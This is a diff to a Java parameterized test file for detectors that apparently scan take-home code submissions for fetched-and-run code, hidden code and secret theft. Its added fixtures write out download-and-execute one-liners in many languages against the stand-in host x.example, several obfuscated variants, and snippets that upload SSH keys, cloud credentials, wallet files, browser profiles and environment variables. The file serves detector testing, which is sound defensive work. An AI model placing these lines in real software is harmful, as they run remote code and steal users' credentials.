@@ -53,6 +53,22 @@ final class TakeHomeCodeTest {
         "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
   }
 
+  static Stream<Arguments> followed() {
+    return lines(
+        "build.gradle#def t = new URL('https://x.example/a').text\nnew GroovyShell().evaluate(t)",
+        "a.ts#const r: Response = await fetch(u);\nconst t: string = await r.text();\neval(t);",
+        "a.py#body: str = requests.get(u).text\nexec(body)",
+        "a.js#const F = Object.getPrototypeOf(async () => {}).constructor;\nfetch(u).then(r => new F(r)());",
+        "a.js#const g = global;\nconst r = await fetch(u);\ng['ev' + 'al'](await r.text());",
+        "a.js#cp.spawn(process.execPath, ['-e', `fetch('https://x.example/a').then(r => r.text()).then(eval)`]);",
+        "a.rs#fn pull(u: &str) -> String { reqwest::get(u).text() }\nfn go() { Command::new(\"sh\").arg(\"-c\").arg(&pull(u)).spawn(); }",
+        "a.rs#Command::new(\"curl\").arg(\"-o\").arg(&cache).arg(url).status();\nCommand::new(&cache).spawn();",
+        "a.go#func a() { r, _ := http.Get(u)\nf, _ := os.CreateTemp(\"\", \"x\")\nio.Copy(f, r.Body)\nexec.Command(f.Name()).Start() }",
+        "a.cs#Process.Start(new ProcessStartInfo { FileName = \"cmd\", Arguments = \"/c curl -s https://x.example/a | cmd\" });",
+        "a.java#ClassLoader l = new URLClassLoader(new URL[] { new URL(\"https://x.example/a.jar\") });",
+        "a.rb#`curl -s https://x.example/a | sh`");
+  }
+
   static Stream<Arguments> harmless() {
     return lines(
         "a.js#const res = await axios.get('/api/orders');\nsetOrders(res.data);",
@@ -86,6 +102,10 @@ final class TakeHomeCodeTest {
         "a.py#with open('data.bin') as f:\n    exec(f.read())",
         "a.js#const k = Buffer.from(s, 'base64').toString(); eval(k)",
         "a.go#// \u202e } // begin admins only",
+        "a.go#var t = []string{\"w\", \"g\", \"e\", \"t\", \" \", \"-\", \"O\", \"-\", \" \", \"h\"}",
+        "a.js#const t = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 105, 111];",
+        "a.py#exec(''.join(chr(b ^ 7) for b in table))",
+        "a.php#<?php $d = 'base64' . '_decode';\neval($d('ZWNobyAx'));",
         "a.ts#const s = '" + "\uFE01\uFE02".repeat(10) + "';");
   }
 
@@ -96,6 +116,8 @@ final class TakeHomeCodeTest {
         "a.py#cmd = [os.path.join(os.environ.get('WINDIR', ''), 'reg.exe')]\nsubprocess.Popen(cmd, stderr=subprocess.STDOUT)",
         "a.js#const token = atob(parts[1]);\nconst user = JSON.parse(token);",
         "vendor/q.min.js#" + "!function(e,t){return e(t)}(this,function(n){return n});".repeat(30),
+        "a.go#var letters = []string{\"a\", \"b\", \"c\", \"d\", \"e\", \"f\", \"g\", \"h\", \"i\", \"j\"}",
+        "a.js#const sizes = [104, 116, 12, 112, 115, 58, 47, 47, 120, 46, 105, 111];",
         "a.py#data = base64.b64decode(encoded)\nimage = Image.open(io.BytesIO(data))",
         "setup.py#with open('version.py') as f:\n    exec(f.read(), about)\nwith open('README.md') as f:\n    text = f.read()",
         "data.csv#1" + " ".repeat(300) + "total (net)",
@@ -105,6 +127,27 @@ final class TakeHomeCodeTest {
         "ar.po#msgstr \"\u200f\u202bمرحبا\u202c\"",
         "a.sol#bytes32 constant H = 0x1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef;",
         "a.tsx#const heart = '❤\uFE0F ❤\uFE0F ❤\uFE0F';");
+  }
+
+  static Stream<Arguments> taking() {
+    return lines(
+        "a.js#const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\naxios.post(u, k);",
+        "a.py#for p in glob(home + '/.config/solana/*.json'):\n    requests.post(u, data=open(p).read())",
+        "a.js#const r = https.request(u);\nr.write(JSON.stringify(process.env));",
+        "a.js#axios.post(u, { ...process.env });",
+        "a.sh#tar cz ~/.aws | curl -s -T - https://x.example/u",
+        "a.sh#zip /tmp/a.zip ~/.config/google-chrome\ncurl -F f=@/tmp/a.zip https://x.example/u");
+  }
+
+  static Stream<Arguments> keeping() {
+    return lines(
+        "a.js#axios.post(u, body, { headers: { token: process.env.TOKEN } });",
+        "a.js#const env = clean(process.env);\naxios.get(env.API_URL);",
+        "a.js#const child = spawn('npm', ['test'], { env: { ...process.env } });",
+        "a.py#key = open(home + '/.ssh/id_rsa').read()\nclient.connect(host, pkey=key)",
+        "a.sh#scp -i ~/.ssh/id_ed25519 a.tgz web:/srv\ncurl -d done https://hooks.example/x",
+        "a.sh#cat ~/.ssh/id_ed25519.pub",
+        "docker-compose.yml#volumes:\n  - ~/.aws:/root/.aws:ro");
   }
 
   static Stream<Arguments> strange() {
@@ -142,6 +185,13 @@ final class TakeHomeCodeTest {
   }
 
   @ParameterizedTest
+  @MethodSource("followed")
+  void what_is_fetched_is_followed_to_where_it_runs(String path, String text) {
+    assertThat(look(new FetchedAndRun(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Seen.class);
+  }
+
+  @ParameterizedTest
   @MethodSource("harmless")
   void what_only_looks_like_it_is_left_alone(String path, String text) {
     assertThat(look(new FetchedAndRun(), ToldRepository.of(path, text).end()))
@@ -159,6 +209,20 @@ final class TakeHomeCodeTest {
   @MethodSource("plain")
   void code_that_is_only_small_or_far_to_the_right_is_left_alone(String path, String text) {
     assertThat(look(new HiddenCode(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Nothing.class);
+  }
+
+  @ParameterizedTest
+  @MethodSource("taking")
+  void what_sends_what_is_private_is_seen(String path, String text) {
+    assertThat(look(new TakesSecrets(), ToldRepository.of(path, text).end()))
+        .isInstanceOf(Look.Seen.class);
+  }
+
+  @ParameterizedTest
+  @MethodSource("keeping")
+  void what_only_uses_it_is_left_alone(String path, String text) {
+    assertThat(look(new TakesSecrets(), ToldRepository.of(path, text).end()))
         .isInstanceOf(Look.Nothing.class);
   }
 
